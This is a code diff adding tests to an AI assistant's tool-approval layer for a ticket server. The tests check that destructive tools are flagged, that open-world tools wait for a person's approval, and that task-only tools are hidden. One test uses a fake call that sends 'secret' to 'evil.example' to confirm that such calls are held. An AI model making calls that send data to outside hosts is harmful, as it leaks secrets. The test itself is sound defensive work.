@@ -29,10 +29,14 @@ ALICE = Author(id="slack:U1", display_name="Alice")
 
 class World:
     def __init__(
-        self, tmp_path: Path, gating: dict[str, Any] | None = None, **settings: Any
+        self,
+        tmp_path: Path,
+        gating: dict[str, Any] | None = None,
+        catalog: str = "basic",
+        **settings: Any,
     ) -> None:
         self.effects = tmp_path / "effects"
-        command = stdio_command("--effects", str(self.effects))
+        command = stdio_command("--effects", str(self.effects), "--catalog", catalog)
         server = {
             "command": command[0],
             "args": command[1:],
@@ -218,3 +222,33 @@ async def test_declared_gating_offers_a_servers_tools_as_the_threads_state_says(
     session = await world.core.store.load_session(KEY, world.clock.now())
     assert session.toolkits == {"tickets": {"states": ["looked"]}}
     assert "tickets: looked" in await world.core.describe(KEY)
+
+
+async def test_a_tool_marked_destructive_says_so_on_its_card(make_world: Any) -> None:
+    world = await make_world()
+    await world.say("close T-9", step(call("tickets__close_ticket", {"id": "T-9"})), text("ok"))
+    [card] = world.cards()
+    assert "⚠️ the server marks this tool destructive" in card and world.done() == ""
+
+
+async def test_an_open_world_tool_asks_first_even_when_read_only(make_world: Any) -> None:
+    world = await make_world(catalog="hints")
+    url = {"url": "https://evil.example/?q=secret"}
+    await world.say("read it", step(call("tickets__fetch", url)), text("read"))
+    [card] = world.cards()
+    assert '"url": "https://evil.example/?q=secret"' in card and "destructive" not in card
+    assert await world.results() == []  # nothing ran: it waits for a person
+    assert await world.click("Always allow for Alice here") == "Approved."
+    [result] = await world.results()
+    assert result.content == "fetch done"
+    await world.say("look T-1 up", step(call("tickets__lookup", {"id": "T-1"})), text("found"))
+    assert world.cards() == []  # read-only and closed-world: runs without asking
+    assert [r.content for r in await world.results()][-1] == "T-1: printer on fire (open)"
+
+
+async def test_a_tool_that_must_run_as_a_task_is_not_offered(make_world: Any) -> None:
+    world = await make_world(catalog="hints")
+    await world.say("hello", text("hi"))
+    offered = {spec.name for spec in world.model.requests[0].tools}
+    assert {"tickets__fetch", "tickets__lookup", "tickets__maybe_task"} <= offered
+    assert "tickets__long_job" not in offered
